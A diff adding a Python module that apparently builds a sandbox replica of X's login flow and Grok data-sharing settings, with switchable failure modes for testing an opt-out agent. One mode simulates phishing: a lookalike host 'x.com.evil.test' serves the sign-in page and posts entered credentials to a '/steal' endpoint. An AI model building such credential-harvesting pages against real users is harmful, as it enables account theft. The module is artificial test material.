@@ -1,0 +1,274 @@
+"""X replica: the sign-in single-page app and the Grok settings screen.
+
+Sign-in is one page at /i/flow/login that swaps its step in place after each answer from the
+server, as X's does: username → sometimes the "unusual activity" identifier question → password →
+sometimes a 2FA code, the identifier and the code typed into the same input; or an Arkose check.
+Each step renders a moment after the server answers, so a flow that looks for an optional step
+only once, at once, misses it.
+
+The Grok screen holds three checkboxes inside labelled rows (training, personalization, memory);
+each change is sent at once, with the switch flipped on screen before the server answers.
+Endpoint and mutation names other than XaiDataSharingSettingsMutation are the replica's own."""
+
+from __future__ import annotations
+
+import html
+import json
+import secrets
+from urllib.parse import quote, urlsplit
+
+from optout.sandbox import Replica, Request, Response, page, redirect
+
+LOGIN_PATH = "/i/flow/login"
+TASK_PATH = "/i/api/1.1/onboarding/task.json"
+SETTINGS_PATH = "/settings/grok_settings"
+LOOKALIKE_HOST = "x.com.evil.test"
+
+LABELS = {
+    "training": "Allow your public data as well as your interactions, inputs, and results with Grok "
+                "and xAI to be used for training and fine-tuning.",
+    "personalization": "Allow X to personalize your experience with Grok",
+    "memory": "Allow Grok to remember your conversation history",
+}
+#: What X might one day call the training switch instead (the label_gone misbehaviour).
+CHANGED_LABEL = "Share your X activity with xAI to improve its models"
+JAPANESE = {
+    "training": "ポストおよびGrokとのやり取り、入力内容、結果をトレーニングと微調整に使用することを許可する",
+    "personalization": "XがGrokでの体験をパーソナライズすることを許可する",
+    "memory": "Grokが会話履歴を記憶することを許可する",
+}
+#: setting → (mutation name, variable): the first is X's (platforms.md §2), the others the replica's.
+MUTATIONS = {
+    "training": ("XaiDataSharingSettingsMutation", "allowXaiDataSharing"),
+    "personalization": ("XaiPersonalizationSettingsMutation", "allowXaiPersonalization"),
+    "memory": ("GrokMemorySettingsMutation", "allowGrokMemory"),
+}
+IDENTIFIER_HEADING = "Enter your phone number or username"
+
+
+class X(Replica):
+    platform = "x"
+    hosts = ("x.com", LOOKALIKE_HOST)
+    settings = ("training", "personalization", "memory")
+
+    def user(self, req: Request) -> str | None:
+        return self.session_user(req.cookies.get("auth_token"))
+
+    def handle(self, req: Request) -> Response:
+        if urlsplit(req.url).hostname == LOOKALIKE_HOST:
+            return self.login_app(lookalike=True)
+        if req.path == LOGIN_PATH:
+            if self.misbehaves("lookalike_login") and "redirect_after_login" not in req.query:
+                return redirect(f"https://{LOOKALIKE_HOST}{LOGIN_PATH}")
+            if self.user(req):
+                return redirect(req.query.get("redirect_after_login") or "/home")
+            return self.login_app()
+        if req.path == TASK_PATH and req.method == "POST":
+            return self.task(req)
+        if req.path == "/home":
+            if not self.user(req):
+                return redirect(LOGIN_PATH + "?redirect_after_login=" + quote("/home", safe=""))
+            return page("<h1>Home</h1><p>For you</p>", title="Home / X")
+        if req.path == SETTINGS_PATH:
+            if not self.user(req):
+                return redirect(LOGIN_PATH + "?redirect_after_login=" + quote(SETTINGS_PATH, safe=""))
+            return self.settings_page(req)
+        if req.path.startswith("/i/api/graphql/") and req.method == "POST":
+            return self.mutation(req)
+        return Response(status=404, body="<h1>Hmm...this page doesn’t exist.</h1>")
+
+    # --- sign-in -------------------------------------------------------------------------------
+
+    def login_app(self, *, lookalike: bool = False) -> Response:
+        task_url = f"https://{LOOKALIKE_HOST}/steal" if lookalike else TASK_PATH
+        views = {
+            "username": """<h1 id="modal-header">Sign in to X</h1>
+<button type="button">Sign in with Apple</button>
+<label>Phone, email, or username <input name="text" type="text" autocomplete="username"></label>
+<button type="button" data-go="username">Next</button>
+<button type="button">Forgot password?</button>""",
+            "identifier": f"""<h1 id="modal-header">{IDENTIFIER_HEADING}</h1>
+<p>There was unusual login activity on your account. To help keep your account safe, please enter
+your phone number or username to verify it’s you.</p>
+<label>Phone or username <input name="text" type="text" data-testid="ocfEnterTextTextInput"></label>
+<button type="button" data-go="identifier" data-testid="ocfEnterTextNextButton">Next</button>""",
+            "password": """<h1 id="modal-header">Enter your password</h1>
+<label>Password <input name="password" type="password" autocomplete="current-password"></label>
+<button type="button">Forgot password?</button>
+<button type="button" data-go="password" data-testid="LoginForm_Login_Button">Log in</button>""",
+            "2fa": """<h1 id="modal-header">Enter your verification code</h1>
+<p>Use your code generator app to generate a code and enter it below.</p>
+<label>Enter code <input name="text" type="text" inputmode="numeric" data-testid="ocfEnterTextTextInput"></label>
+<button type="button" data-go="2fa" data-testid="ocfEnterTextNextButton">Next</button>""",
+            "arkose": """<h1 id="modal-header">Authenticate your account</h1>
+<p>Solve this puzzle to verify that you’re a real person.</p>
+<iframe title="Verification challenge" src="https://client-api.arkoselabs.com/fc/gc/?token=replica"></iframe>""",
+        }
+        script = f"""
+const VIEWS = {json.dumps(views)};
+const root = document.getElementById('flow');
+let token = null;
+function show(step) {{
+  root.innerHTML = VIEWS[step.subtask] +
+    (step.error ? '<div role="alert">' + step.error + '</div>' : '');
+  const input = root.querySelector('input');
+  if (input) input.focus();
+}}
+root.addEventListener('click', async (event) => {{
+  const button = event.target.closest('button[data-go]');
+  if (!button) return;
+  const input = root.querySelector('input');
+  const r = await fetch({json.dumps(task_url)}, {{method: 'POST', headers: {{'content-type': 'application/json'}},
+    body: JSON.stringify({{flow_token: token, subtask: button.dataset.go, value: input ? input.value : ''}})}});
+  const step = await r.json();
+  token = step.flow_token || token;
+  root.innerHTML = '<div role="progressbar" aria-label="Loading"></div>';
+  // X renders the next step a moment after its answer arrives.
+  setTimeout(() => {{
+    if (step.subtask === 'done') {{
+      const next = new URLSearchParams(location.search).get('redirect_after_login') || '/home';
+      location.replace(next.startsWith('/') ? next : '/home');
+    }} else show(step);
+  }}, 600);
+}});
+show({{subtask: 'username'}});"""
+        return page('<div role="dialog" aria-labelledby="modal-header"><div id="flow"></div></div>',
+                    title="Log in to X / X", script=script)
+
+    def task(self, req: Request) -> Response:
+        body = req.json if isinstance(req.json, dict) else {}
+        subtask, value = str(body.get("subtask", "")), str(body.get("value", ""))
+        flows = self.state.setdefault("login_flows", {})
+        if subtask == "username":
+            if self.account(value) is None or not value:
+                self.event("username", ok=False)
+                return answer({"subtask": "username", "error": "Sorry, we could not find your account."})
+            token = secrets.token_urlsafe(12)
+            flows[token] = {"user": value, "stage": "identifier" if self.misbehaves("identifier_step") else "password"}
+            self.sandbox.save()
+            return answer({"flow_token": token, "subtask": flows[token]["stage"]})
+        flow = flows.get(str(body.get("flow_token")))
+        if flow is None or flow["stage"] != subtask:
+            return answer({"subtask": "username", "error": "Something went wrong. Let’s try again."})
+        user = flow["user"]
+        if subtask == "identifier":
+            ok = value == user  # the replica knows one name per account: the one signed in with
+            self.event("identifier", ok=ok)
+            if not ok:
+                return answer({"subtask": "identifier", "error": "Please enter your phone number or username."})
+            return self.advance(flows, body, "password")
+        if subtask == "password":
+            ok = not self.misbehaves("wrong_password") and self.password_ok(user, value)
+            self.event("login", ok=ok, user=user)
+            if not ok:
+                return answer({"subtask": "password", "error": "Wrong password!"})
+            if self.misbehaves("checkpoint"):
+                return self.advance(flows, body, "arkose")
+            if self.misbehaves("two_factor") or self.account(user)["totp_secret"]:
+                return self.advance(flows, body, "2fa")
+            return self.done(flows, body, user)
+        if subtask == "2fa":
+            import pyotp
+
+            secret = self.account(user)["totp_secret"]
+            ok = bool(secret) and pyotp.TOTP(secret).verify(value, valid_window=1)
+            self.event("code", ok=ok)
+            if not ok:
+                return answer({"subtask": "2fa", "error": "Your code was incorrect. Please try again."})
+            return self.done(flows, body, user)
+        return answer({"subtask": "username", "error": "Something went wrong. Let’s try again."})
+
+    def advance(self, flows: dict, body: dict, stage: str) -> Response:
+        flows[str(body["flow_token"])]["stage"] = stage
+        self.sandbox.save()
+        return answer({"flow_token": body["flow_token"], "subtask": stage})
+
+    def done(self, flows: dict, body: dict, user: str) -> Response:
+        flows.pop(str(body["flow_token"]), None)
+        token = self.new_session(user)
+        return answer({"subtask": "done"}, headers={"set-cookie": f"auth_token={token}; Path=/; Secure; HttpOnly"})
+
+    # --- the Grok settings screen --------------------------------------------------------------
+
+    def settings_page(self, req: Request) -> Response:
+        lang = "ja" if self.misbehaves("language") else "en"
+        if self.misbehaves("absent"):
+            body = """<h1>Data sharing and personalization</h1>
+<p>Manage what information you allow X to use and share.</p>
+<ul><li><a href="/settings/off_twitter_activity">Inferred identity</a></li>
+<li><a href="/settings/data_sharing_with_business_partners">Data sharing with business partners</a></li></ul>"""
+            return page(body, title="Data sharing and personalization / X", lang=lang)
+        values = self.settings_of(self.user(req))
+        rows = []
+        for setting in self.settings:
+            if setting == "memory" and self.misbehaves("memory_hidden"):
+                continue
+            label = JAPANESE[setting] if lang == "ja" else LABELS[setting]
+            if setting == "training" and self.misbehaves("label_gone"):
+                label = CHANGED_LABEL
+            mutation, variable = MUTATIONS[setting]
+            rows.append(f"""
+<label class="row">
+  <span>{html.escape(label)}</span>
+  <span class="track"><input type="checkbox" name="{variable}" data-mutation="{mutation}" data-variable="{variable}"
+    {"checked" if values[setting] else ""} {"disabled" if self.misbehaves("under_18") else ""}></span>
+</label>""")
+        screen = f"""
+<div data-testid="xaiDataSharingSettings">
+<section aria-labelledby="grok-heading">
+  <h1 id="grok-heading">Grok &amp; Third-party Collaborators</h1>
+  <h2>Data Sharing</h2>
+  <p>X may share with xAI your X public data as well as your user interactions, inputs and results
+  with Grok on X to train and fine-tune Grok and other AI models developed by xAI.</p>
+  {''.join(rows)}
+  <button type="button">Delete conversation history</button>
+  <div id="toast" role="status"></div>
+</section>
+</div>
+<style>.row{{display:flex;justify-content:space-between;gap:16px;padding:12px 0;cursor:pointer}}
+.track{{position:relative;width:40px;height:22px;border-radius:11px;background:#cfd9de;flex:none}}
+.track input{{position:absolute;inset:0;margin:0;opacity:0;cursor:pointer}}</style>"""
+        # Optimistic UI: the box flips before the server answers, as X's does.
+        script = """
+document.querySelectorAll('input[data-mutation]').forEach((input) => input.addEventListener('change', async () => {
+  const r = await fetch('/i/api/graphql/rPl1caQ/' + input.dataset.mutation, {
+    method: 'POST', headers: {'content-type': 'application/json'},
+    body: JSON.stringify({variables: {[input.dataset.variable]: input.checked}})});
+  document.getElementById('toast').textContent = r.ok ? 'Your settings were saved' : 'Something went wrong. Try reloading.';
+}));"""
+        if self.misbehaves("slow_render"):
+            script = f"""
+setTimeout(() => {{
+  document.querySelector('main').innerHTML = {json.dumps(screen)};
+  {script}
+}}, 2000);"""
+            return page('<div role="progressbar" aria-label="Loading"></div>', title="Grok / X", lang=lang,
+                        script=script)
+        return page(screen, title="Grok / X", lang=lang, script=script)
+
+    def mutation(self, req: Request) -> Response:
+        user = self.user(req)
+        if not user:
+            return Response(status=403, body='{"errors":[{"message":"Forbidden"}]}', content_type="application/json")
+        name = req.path.rsplit("/", 1)[-1]
+        setting = next((s for s, (m, _) in MUTATIONS.items() if m == name), None)
+        variables = (req.json or {}).get("variables", {}) if isinstance(req.json, dict) else {}
+        if setting is None or MUTATIONS[setting][1] not in variables:
+            return Response(status=400, body='{"errors":[{"message":"Bad request"}]}', content_type="application/json")
+        value = bool(variables[MUTATIONS[setting][1]])
+        if self.misbehaves("under_18"):
+            self.event("save", setting=setting, on=value, status=403)
+            return Response(status=403, body='{"errors":[{"message":"Forbidden"}]}', content_type="application/json")
+        if self.misbehaves("save_fails"):
+            self.event("save", setting=setting, on=value, status=500)
+            return Response(status=500, body='{"errors":[{"message":"Internal"}]}', content_type="application/json")
+        self.event("save", setting=setting, on=value, status=200)
+        if not self.misbehaves("reverts"):
+            self.settings_of(user)[setting] = value
+            self.sandbox.save()
+        return Response(body='{"data":{"user_preferences_put":{"__typename":"UserPreferences"}}}',
+                        content_type="application/json")
+
+
+def answer(data: dict, headers: dict[str, str] | None = None) -> Response:
+    return Response(body=json.dumps(data), content_type="application/json", headers=headers or {})
